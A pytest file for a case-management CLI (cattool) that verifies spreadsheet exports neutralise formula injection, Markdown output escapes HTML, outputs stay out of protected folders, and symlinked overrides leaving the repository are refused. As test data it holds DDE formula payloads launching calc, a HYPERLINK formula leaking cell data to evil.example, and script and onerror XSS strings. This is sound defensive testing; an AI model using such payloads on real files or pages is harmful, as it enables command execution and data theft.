"""Outputs cannot run anything, and go only where they should (cattool.outputs).

1. Spreadsheets: a text cell that starts with =, +, -, @, a tab or a carriage return is written
   as text in every CSV and XLSX (export, stats, deadlines, list), read back with the csv module
   and openpyxl; numbers stay numbers, a negative one included.
2. Markdown: HTML, links and images typed into a case are printed as text by diff -f md (the
   pull-request comment), show -f md and Markdown letters.
3. Output paths: never inside cases/ or over a case file (--force or not), never a folder for a
   file, never a missing folder made on the way: exit 2, nothing written.
4. Overrides: a template, vocabulary or country file that is a link leaving the repository is a
   configuration error (exit 3) naming the file; its content is never used.
5. cattool diff and log without git on PATH: exit 3, "git not found".
"""

from __future__ import annotations

import copy
import csv
import html
import io
import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cases_builder import dump, load_model, variant
from demo_settings import VOF_SETTINGS
from typer.testing import CliRunner

from cattool.cli import app

runner = CliRunner()
CASE = "cases/KG/KG-2016-0001.yaml"
C = "KG-2016-0001"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# One formula of each kind the OWASP rule names, each in another text field.
FORMULAS = {
    "public_label": "+cmd|' /C calc'!A0",
    "summary_public": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "narrative_public": "@SUM(1+1)*cmd|' /C calc'!A0",
    "second_label": "-2+3+cmd|' /C calc'!A0",
    "assignee": "=1+2",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}
HOSTILE = (
    "<script>alert(1)</script> and <img src=x onerror=alert(1)> see [link](http://evil) "
    "![x](http://evil)"
)


def invoke(root: Path, *args: str) -> Any:
    return runner.invoke(app, [*args, "--repo", str(root)])


def formula_case(model: dict[str, Any], case_id: str = C) -> dict[str, Any]:
    """The model case with a formula in every text field an export or a table writes."""
    case = variant(model, case_id, text_dates=True)
    case["confidentiality"] = "public"
    case["assignee"] = FORMULAS["assignee"]
    case["summary_public"] = FORMULAS["summary_public"]
    victim = case["victims"][0]
    victim["public_label"] = FORMULAS["public_label"]
    second = copy.deepcopy(victim)
    second.update(victim_id="v2", full_name="Second Victim", public_label=FORMULAS["second_label"])
    third = copy.deepcopy(victim)
    third.update(victim_id="v3", full_name="Third Victim", public_label=FORMULAS["tab"])
    case["victims"] += [second, third]
    case["incidents"][0]["victim_ids"] = ["v1", "v2", "v3"]
    case["incidents"][0]["narrative_public"] = FORMULAS["narrative_public"]
    incident = copy.deepcopy(case["incidents"][0])
    incident.update(incident_id="i2", narrative_public=FORMULAS["cr"])
    case["incidents"].append(incident)
    for person in ("v2", "v3"):
        consent = copy.deepcopy(case["consent"][0])
        consent["person_id"] = person
        case["consent"].append(consent)
    return case


@pytest.fixture
def formula_repo(make_repo: Callable[..., Path], model_case_text: str) -> Path:
    model = load_model(model_case_text, text_dates=True)
    root = make_repo({"cattool.yaml": VOF_SETTINGS, CASE: dump(formula_case(model))})
    checked = invoke(root, "validate")
    assert checked.exit_code == 0, checked.output  # every formula passes validation
    return root


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell could run in a spreadsheet; each formula of FORMULAS is there, quoted."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+", cell), cell


def joined(rows: list[list[str]]) -> str:
    return "\n".join("\x1f".join(row) for row in rows)


# --- 1. spreadsheets ------------------------------------------------------------------------------


@pytest.mark.parametrize("per", ["case", "victim"])
def test_a_coalition_export_writes_every_formula_as_text(
    formula_repo: Path, tmp_path: Path, per: str
) -> None:
    target = tmp_path / f"partners-{per}.csv"
    result = invoke(formula_repo, "export", "--coalition", "--per", per, "-o", str(target))
    assert result.exit_code == 0, result.output
    raw = target.read_bytes().decode("utf-8-sig")  # keep a "\\r" as written
    rows = cells_of(raw)
    assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    labels = ["public_label", "second_label", "tab"]
    if per == "case":
        assert "'" + FORMULAS["summary_public"] in cells
        assert ";".join(FORMULAS[k] for k in labels) not in cells  # joined: starts with "+"
        assert "'" + ";".join(FORMULAS[k] for k in labels) in cells
        narratives = " / ".join([FORMULAS["narrative_public"], FORMULAS["cr"]])
        assert "'" + narratives in cells
    else:
        for key in labels:  # one row per victim, the label alone in its cell
            assert "'" + FORMULAS[key] in cells
    # the OWASP rule: the neutralised cell is quoted too
    assert "\"'+cmd|' /C calc'!A0" in raw
    # numbers stay numbers: the count of victims is a bare 3
    header = rows[0]
    assert {row[header.index("victims")] for row in rows[1:]} == {"3"}
    # JSON is not a spreadsheet: the values are as the case has them
    as_json = invoke(formula_repo, "export", "--coalition", "--per", per, "--format", "json")
    assert FORMULAS["public_label"] in as_json.stdout


def test_the_deadline_list_writes_a_formula_as_text_and_days_as_numbers(
    formula_repo: Path, tmp_path: Path
) -> None:
    target = tmp_path / "deadlines.csv"
    result = invoke(
        formula_repo, "deadlines", "--as-of", "2016-03-16", "--within", "60d", "-f", "csv",
        "-o", str(target),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = cells_of(target.read_text(encoding="utf-8"))
    assert len(rows) > 1, rows
    assert_no_formula(rows)
    header = rows[0]
    assert {row[header.index("assignee")] for row in rows[1:]} == {"'=1+2"}
    days = [int(row[header.index("days_late")]) for row in rows[1:]]  # numbers, not "'-5"
    assert any(d < 0 for d in days), days


def test_the_case_list_writes_a_formula_as_text(
    make_repo: Callable[..., Path], model_case_text: str
) -> None:
    model = load_model(model_case_text, text_dates=True)
    case = variant(model, C, text_dates=True, member_org="=1+2", district="@x")
    root = make_repo({"cattool.yaml": VOF_SETTINGS, CASE: dump(case)})
    result = invoke(root, "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = cells_of(result.stdout)
    assert_no_formula(rows)
    assert "'=1+2" in {cell for row in rows for cell in row}


def stats_repo(make_repo: Callable[..., Path], model_case_text: str) -> Path:
    """Two Kyrgyz cases in 2015 and one in 2016 (a change of -1), the label of a method (beating)
    a formula in the repository's own vocabularies."""
    from cattool.repo import builtin_dir

    vocabularies = (builtin_dir() / "schemas" / "vocabularies.yaml").read_text(encoding="utf-8")
    own = vocabularies.replace(
        "beating: {en: Beating, ru: Избиение}",
        "beating: {en: '=HYPERLINK(\"http://evil\",\"Beating\")', ru: '+Избиение'}",
    )
    assert own != vocabularies
    model = load_model(model_case_text, text_dates=True)
    files: dict[str, str | bytes] = {"cattool.yaml": VOF_SETTINGS, "schemas/vocabularies.yaml": own}
    for case_id in ("KG-2015-0001", "KG-2015-0002", "KG-2016-0001"):
        text = dump(variant(model, case_id, text_dates=True))
        if "2015" in case_id:  # the whole story a year earlier
            text = text.replace("2016-", "2015-")
        files[f"cases/KG/{case_id}.yaml"] = text
    root = make_repo(files)
    checked = invoke(root, "validate")
    assert checked.exit_code == 0, checked.output
    return root


def test_stats_csv_and_xlsx_write_a_formula_label_as_text_and_counts_as_numbers(
    make_repo: Callable[..., Path], model_case_text: str, tmp_path: Path
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    root = stats_repo(make_repo, model_case_text)
    label = '=HYPERLINK("http://evil","Beating")'

    stream = invoke(root, "stats", "2015-2016", "-f", "csv")
    assert stream.exit_code == 0, stream.output
    rows = [r for r in cells_of(stream.stdout) if r and not r[0].startswith("# ")]
    assert_no_formula(rows)
    assert ["'" + label, "2", "1", "3", "-1"] in rows  # the change is a bare -1

    folder = tmp_path / "csv"
    assert invoke(root, "stats", "2015-2016", "-f", "csv", "-o", str(folder)).exit_code == 0
    by_method = cells_of((folder / "by_method.csv").read_bytes().decode("utf-8-sig"))
    assert_no_formula(by_method)
    assert ["'" + label, "2", "1", "3", "-1"] in by_method

    book_path = tmp_path / "stats.xlsx"
    made = invoke(root, "stats", "2015-2016", "-f", "xlsx", "-o", str(book_path))
    assert made.exit_code == 0, made.output
    book = openpyxl.load_workbook(book_path)
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value
                    texts += 1
    assert texts == 1  # the label, in the sheet of methods
    (row,) = [r for r in book["by_method"].iter_rows() if r[0].value == label]
    assert [c.value for c in row[:5]] == [label, 2, 1, 3, -1]  # the text exactly, numbers
    assert [c.data_type for c in row[:5]] == ["s", "n", "n", "n", "n"]

    russian = invoke(root, "stats", "2015-2016", "-f", "csv", "--lang", "ru")
    assert ["'+Избиение", "2", "1", "3", "-1"] in cells_of(russian.stdout)


# --- 2. Markdown ----------------------------------------------------------------------------------


def rendered_text(markdown: str) -> tuple[str, str]:
    """(the HTML a CommonMark renderer makes of it, the text a reader sees)."""
    markdown_it = pytest.importorskip("markdown_it")
    made = str(markdown_it.MarkdownIt("commonmark").render(markdown))
    return made, html.unescape(re.sub(r"<[^>]+>", "", made))


def assert_text_only(markdown: str, *, hostile: str = HOSTILE) -> None:
    assert "<script" not in markdown and "<img" not in markdown
    assert "[link](http://evil)" not in markdown and "![x](http://evil)" not in markdown
    made, seen = rendered_text(markdown)
    for tag in ("<script", "<img", "<a ", "<a>"):
        assert tag not in made, tag
    assert hostile in " ".join(seen.split()), seen  # what the case says reads as it was typed


def hostile_case(model: dict[str, Any]) -> dict[str, Any]:
    case = copy.deepcopy(model)
    case["summary_public"] = f"Summary: {HOSTILE}"
    case["victims"][0]["public_label"] = f"T.F. {HOSTILE}"
    incident = case["incidents"][0]
    incident["narrative_public"] = f"Public: {HOSTILE}"
    for key in ("narrative", "place_name", "injuries", "settlement"):
        incident[key] = {lang: f"{text} {HOSTILE}" for lang, text in incident[key].items()}
    for event in case["legal_actions"]:
        name = event["authority"]["name"]
        event["authority"]["name"] = {lang: f"{text} {HOSTILE}" for lang, text in name.items()}
    return case


def git(root: Path, *args: str) -> None:
    done = subprocess.run(["git", *args], cwd=root, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_diff_markdown_prints_html_and_links_of_a_case_as_text(
    make_repo: Callable[..., Path], model_case_text: str
) -> None:
    model = load_model(model_case_text, text_dates=True)
    root = make_repo({"cattool.yaml": VOF_SETTINGS, CASE: dump(model)})
    git(root, "init", "--quiet")
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "-m", "The case")
    git(root, "checkout", "--quiet", "-b", "work")
    changed = hostile_case(model)
    changed["legal_actions"].append(
        {**copy.deepcopy(changed["legal_actions"][-1]), "event_id": "e5", "date": "2016-05-02"}
    )
    (root / CASE).write_text(dump(changed), encoding="utf-8")
    (root / "cases" / "KG" / "KG-2016-0002.yaml").write_text(
        dump(variant(changed, "KG-2016-0002", text_dates=True)), encoding="utf-8"
    )
    result = invoke(root, "diff", "--format", "md")
    assert result.exit_code == 0, result.output
    md = result.stdout
    assert "summary_public: " in md and "victims[0].public_label: T.F. → T.F. " in md
    assert "new event e5: Appeal filed, 2016-05-02, Chui regional procuracy " in md
    lines = [line for line in md.splitlines() if "evil" in line]
    assert len(lines) >= 5, md
    for line in lines:
        assert_text_only(line)
    text = invoke(root, "diff").stdout  # the terminal's text is as typed
    assert HOSTILE in text


@pytest.mark.parametrize("reveal", [False, True])
def test_show_markdown_prints_html_and_links_of_a_case_as_text(
    make_repo: Callable[..., Path], model_case_text: str, reveal: bool
) -> None:
    model = load_model(model_case_text, text_dates=True)
    root = make_repo({"cattool.yaml": VOF_SETTINGS, CASE: dump(hostile_case(model))})
    result = invoke(root, "show", C, "--format", "md", *(["--reveal"] if reveal else []))
    assert result.exit_code == 0, result.output
    md = result.stdout
    assert "## Who" in md and md.startswith("# KG-2016-0001 · Torture · Kyrgyzstan")
    lines = [line for line in md.splitlines() if "evil" in line]
    assert len(lines) >= (5 if reveal else 3), lines
    for line in lines:
        assert_text_only(line)
    _, seen = rendered_text(md)
    assert "summary: Summary: " + HOSTILE in " ".join(seen.split())
    if not reveal:
        assert "<hidden: use --reveal>" in md  # cattool's own words stay as they are


def test_a_markdown_letter_prints_html_and_links_of_a_case_as_text(
    make_repo: Callable[..., Path], model_case_text: str
) -> None:
    model = load_model(model_case_text, text_dates=True)
    case = hostile_case(model)
    case["legal_actions"] = [e for e in case["legal_actions"] if e["type"] != "appeal_filed"]
    root = make_repo({"cattool.yaml": VOF_SETTINGS, CASE: dump(case)})
    result = invoke(root, "letter", C, "--to", "procuracy", "--format", "md", "--date",
                    "2016-05-01")  # fmt: skip
    assert result.exit_code == 0, result.output
    (written,) = (root / "out" / C).glob("*.md")
    md = written.read_text(encoding="utf-8")
    lines = [line for line in md.splitlines() if "evil" in line]
    assert lines
    for line in lines:
        assert_text_only(line.removeprefix("- "))
    assert "# ЗАЯВЛЕНИЕ" in md.splitlines()  # the template's own heading is one
    # the same letter as text and Word keeps the case's text exactly as typed
    printed = invoke(root, "letter", C, "--format", "txt", "--stdout", "--date", "2016-05-01")
    assert printed.exit_code == 0, printed.output
    assert "<script>alert(1)</script>" in printed.stdout


def test_a_bar_in_a_case_text_neither_starts_nor_splits_a_table(
    make_repo: Callable[..., Path], model_case_text: str
) -> None:
    model = load_model(model_case_text, text_dates=True)
    case = copy.deepcopy(model)
    case["incidents"][0]["narrative"] = {"ru": "| a | b |", "en": "| a | b |"}
    root = make_repo({"cattool.yaml": VOF_SETTINGS, CASE: dump(case)})
    result = invoke(root, "letter", C, "--format", "md", "--stdout", "--date", "2016-05-01")
    assert result.exit_code == 0, result.output
    assert "\\| a \\| b \\|" in result.stdout
    made, _ = rendered_text(result.stdout)
    assert "<table" not in made


# --- 3. where outputs go --------------------------------------------------------------------------


@pytest.fixture
def plain_repo(make_repo: Callable[..., Path], model_case_text: str) -> Path:
    return make_repo({"cattool.yaml": VOF_SETTINGS, CASE: model_case_text})


BAD_PLACES = {
    "stats over a case file": ["stats", "2016", "-f", "json", "-o", "{case}", "--force"],
    "stats into cases/": ["stats", "2016", "-f", "md", "-o", "{root}/cases/KG/x.md"],
    "stats onto a folder": ["stats", "2016", "-f", "json", "-o", "{tmp}"],
    "stats into a missing folder": ["stats", "2016", "-f", "json", "-o", "{tmp}/no/x.json"],
    "stats csv into cases/": ["stats", "2016", "-f", "csv", "-o", "{root}/cases/csv"],
    "stats csv onto a file": ["stats", "2016", "-f", "csv", "-o", "{case}", "--force"],
    "stats xlsx over a case": ["stats", "2016", "-f", "xlsx", "-o", "{case}", "--force"],
    "stats charts in cases/": ["stats", "2016", "--charts", "{root}/cases/charts"],
    "stats report in cases/": ["stats", "2016", "--report", "{root}/cases"],
    "stats report, no parent": ["stats", "2016", "--report", "{tmp}/no/report"],
    "export over a case file": ["export", "--coalition", "-o", "{case}", "--force"],
    "export over a case": ["export", "--coalition", "-o", "{case}"],
    "export onto a folder": ["export", "--public", "-o", "{tmp}"],
    "export into a missing folder": ["export", "--public", "-o", "{tmp}/no/x.csv"],
    "deadlines over a case": ["deadlines", "-f", "ics", "-o", "{case}", "--force"],
    "deadlines onto a folder": ["deadlines", "-f", "ics", "-o", "{tmp}"],
    "deadlines, missing folder": ["deadlines", "-f", "ics", "-o", "/nonexistent/dir/x.ics"],
    "letter into cases/": ["letter", C, "--format", "md", "--out-dir", "{root}/cases/KG"],
    "letter, missing folder": ["letter", C, "--format", "md", "--out-dir", "{tmp}/no/x"],
    "letter onto a file": ["letter", C, "--format", "md", "--out-dir", "{case}"],
}


@pytest.mark.parametrize("args", BAD_PLACES.values(), ids=BAD_PLACES.keys())
def test_an_output_never_goes_inside_cases_onto_a_folder_or_into_a_missing_folder(
    plain_repo: Path, tmp_path: Path, args: list[str]
) -> None:
    places = {"root": str(plain_repo), "case": str(plain_repo / CASE), "tmp": str(tmp_path)}
    before = {p: p.read_bytes() for p in (plain_repo / "cases").rglob("*") if p.is_file()}
    outside = sorted(tmp_path.rglob("*"))
    given = [a.format(**places) for a in args]
    result = invoke(plain_repo, *given)
    assert result.exit_code == 2, result.output
    option = next(
        i for i, a in enumerate(given) if a in ("-o", "--out-dir", "--report", "--charts")
    )
    named = given[option + 1]
    assert named in " ".join(result.stderr.split()), result.stderr  # the message names the path
    after = {p: p.read_bytes() for p in (plain_repo / "cases").rglob("*") if p.is_file()}
    assert after == before  # the case file byte for byte, and nothing new in cases/
    assert sorted(tmp_path.rglob("*")) == outside  # no folder made on the way
    assert not Path("/nonexistent").exists()
    assert not (plain_repo / "out").exists()


def test_a_link_to_a_case_file_is_no_way_into_cases(plain_repo: Path, tmp_path: Path) -> None:
    link = tmp_path / "figures.json"
    link.symlink_to(plain_repo / CASE)
    before = (plain_repo / CASE).read_bytes()
    result = invoke(plain_repo, "stats", "2016", "-f", "json", "-o", str(link), "--force")
    assert result.exit_code == 2, result.output
    assert (plain_repo / CASE).read_bytes() == before
    # out/ itself a link into cases/: the letters' default folder is refused
    (plain_repo / "out").symlink_to(plain_repo / "cases")
    letter = invoke(plain_repo, "letter", C, "--format", "md", "--date", "2016-03-15")
    assert letter.exit_code == 2, letter.output
    assert sorted(p.name for p in (plain_repo / "cases").iterdir()) == ["KG"]


def test_the_repositorys_out_folder_is_made_and_an_existing_folder_is_used(
    plain_repo: Path, tmp_path: Path
) -> None:
    made = invoke(plain_repo, "deadlines", "-f", "ics", "-o", str(plain_repo / "out" / "d.ics"))
    assert made.exit_code == 0, made.output
    assert (plain_repo / "out" / "d.ics").is_file()
    report = invoke(plain_repo, "stats", "2016", "--report", str(tmp_path / "report"))
    assert report.exit_code == 0, report.output  # the folder named is made, its parent exists
    assert (tmp_path / "report" / "report.en.md").is_file()
    letter = invoke(plain_repo, "letter", C, "--format", "md", "--date", "2016-03-15")
    assert letter.exit_code == 0, letter.output  # the default out/CASE_ID/
    assert list((plain_repo / "out" / C).glob("*.md"))


# --- 4. overrides leaving the repository ----------------------------------------------------------


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    secret = tmp_path / "elsewhere" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("SECRET-OUTSIDE-MARK {{ case_id }}\n", encoding="utf-8")
    return secret


@pytest.mark.parametrize(
    "override",
    [
        "templates/letters/procuracy-complaint.ru.md.j2",
        "templates/letters/_parts.ru.md.j2",  # included by the letter
    ],
)
def test_a_template_override_linking_out_of_the_repository_is_refused(
    plain_repo: Path, secret_file: Path, override: str
) -> None:
    link = plain_repo / override
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(secret_file)
    result = invoke(plain_repo, "letter", C, "--format", "md", "--stdout", "--date", "2016-03-15")
    assert result.exit_code == 3, result.output
    assert "SECRET-OUTSIDE-MARK" not in result.output
    assert str(link) in result.stderr and "outside the repository" in result.stderr
    assert str(secret_file) not in result.stderr  # the link's target is not shown
    written = invoke(plain_repo, "letter", C, "--format", "md,docx", "--date", "2016-03-15")
    assert written.exit_code == 3, written.output
    assert not (plain_repo / "out").exists()


def test_a_letterhead_linking_out_of_the_repository_is_refused(
    plain_repo: Path, secret_file: Path
) -> None:
    link = plain_repo / "templates" / "letters" / "letterhead.docx"
    link.parent.mkdir(parents=True)
    link.symlink_to(secret_file)
    result = invoke(plain_repo, "letter", C, "--format", "docx", "--date", "2016-03-15")
    assert result.exit_code == 3, result.output
    assert str(link) in result.stderr


def test_a_link_inside_the_repository_is_a_normal_override(plain_repo: Path) -> None:
    from cattool.repo import builtin_dir

    name = "letters/procuracy-complaint.ru.md.j2"
    mine = plain_repo / "shared" / "complaint.j2"
    mine.parent.mkdir()
    mine.write_text(
        (builtin_dir() / "templates" / name).read_text(encoding="utf-8") + "\nOWN-TEMPLATE-MARK\n",
        encoding="utf-8",
    )
    link = plain_repo / "templates" / name
    link.parent.mkdir(parents=True)
    link.symlink_to(mine)
    result = invoke(plain_repo, "letter", C, "--format", "md", "--stdout", "--date", "2016-03-15")
    assert result.exit_code == 0, result.output
    assert "OWN-TEMPLATE-MARK" in result.stdout


@pytest.mark.parametrize("override", ["schemas/vocabularies.yaml", "schemas/countries/KG.yaml"])
def test_a_vocabulary_or_country_override_linking_out_is_refused(
    plain_repo: Path, tmp_path: Path, override: str
) -> None:
    from cattool.repo import builtin_dir

    copied = tmp_path / "elsewhere" / Path(override).name
    copied.parent.mkdir()
    copied.write_bytes((builtin_dir() / override).read_bytes())  # a good file, but outside
    link = plain_repo / override
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(copied)
    for args in (["validate"], ["show", C], ["stats", "2016"]):
        result = invoke(plain_repo, *args)
        assert result.exit_code == 3, (args, result.output)
        assert str(link) in result.stderr, result.stderr
        assert "outside the repository" in result.stderr


# --- 5. git missing -------------------------------------------------------------------------------


@pytest.mark.parametrize("args", [["diff"], ["diff", "--format", "md"], ["log", C]])
def test_diff_and_log_without_git_say_so(
    plain_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    git(plain_repo, "init", "--quiet")
    git(plain_repo, "add", "--all")
    git(plain_repo, "commit", "--quiet", "-m", "The case")
    empty = tmp_path / "no-git-here"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    assert os.environ["PATH"] == str(empty)
    result = invoke(plain_repo, *args)
    assert result.exit_code == 3, result.output
    assert "git not found" in result.stderr
    assert "main branch" not in result.stderr
